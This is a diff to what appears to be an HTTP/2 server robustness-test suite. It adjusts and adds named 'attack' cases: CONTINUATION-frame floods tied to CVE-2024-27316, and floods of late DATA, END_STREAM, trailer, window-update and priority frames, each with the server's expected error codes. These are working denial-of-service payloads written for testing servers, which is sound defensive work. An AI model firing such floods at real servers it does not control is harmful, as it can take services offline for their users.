@@ -15,15 +15,13 @@ FIELDS = frames.pack([("x-%05d" % number, "y" * 100) for number in range(120)])
 @attack(31, "continuations", short=True)
 def continuations(stage: Stage) -> str:
     """CVE-2024-27316: a header block that never ends."""
-    return str(storm(stage, [frames.continuation(1, FIELDS)] * 8, prelude=frames.headers(1, OPEN, complete=False),
-                     codes=(11, 1, None)))  # fmt: skip
+    return str(storm(stage, [frames.continuation(1, FIELDS)] * 8, prelude=frames.headers(1, OPEN, complete=False)))
 
 
 @attack(31, "empty-continuations", short=True)
 def empty_continuations(stage: Stage) -> str:
     """The same without a single octet of fields."""
-    return str(storm(stage, [frames.continuation(1, b"") * 1000], prelude=frames.headers(1, OPEN, complete=False),
-                     codes=(11, 1, None)))  # fmt: skip
+    return str(storm(stage, [frames.continuation(1, b"") * 1000], prelude=frames.headers(1, OPEN, complete=False)))
 
 
 @attack(31, "continuations-across-streams", short=True)
@@ -46,6 +44,11 @@ def thrash(setting: int, value: int) -> bytes:
     return (frames.settings((setting, 0)) + frames.settings((setting, value))) * 500
 
 
+# A stream that the server has reset: what comes for it from here on is late.
+GONE = OPENED + frames.window_update(1, frames.LARGEST_WINDOW)
+# The prefix of a message that does not end soon.
+BEGUN = OPENED + frames.data(1, b"\x00\x00\x3f\x00\x00")
+
 # name: prelude, bursts, codes, options
 FLOODS = {
     "ping": (b"", [frames.ping() * 1000], (11,), {}),
@@ -67,6 +70,13 @@ FLOODS = {
     ),
     "empty-data": (OPENED, empty(frames.DATA, 1), (11,), {}),
     "padded-empty-data": (OPENED, empty(frames.DATA, 1, 0x8, b"\x04\x00\x00\x00\x00"), (11,), {}),
+    "late-empty-data": (GONE, empty(frames.DATA, 1), (11,), {}),
+    # A stream ends once.
+    "late-ends": (GONE, [frames.data(1, b"", ends=True) * 1000], (5,), {}),
+    # As much as a window may have been under way.
+    "late-data": (GONE, [frames.data(1, b"x" * 1024) * 100], (11,), {}),
+    "late-trailers": (GONE, [frames.headers(1, frames.pack([("x", "y")])) * 100], (11,), {}),
+    "priority-paid-by-octets": (BEGUN, [(frames.data(1, b"x") + frames.priority(9, 0) * 3) * 250], (11,), {}),
     "priority": (
         OPENED,
         [b"".join(frames.priority(stream, (stream * 7) % 2000, stream % 256) for stream in range(3, 4003, 2))],
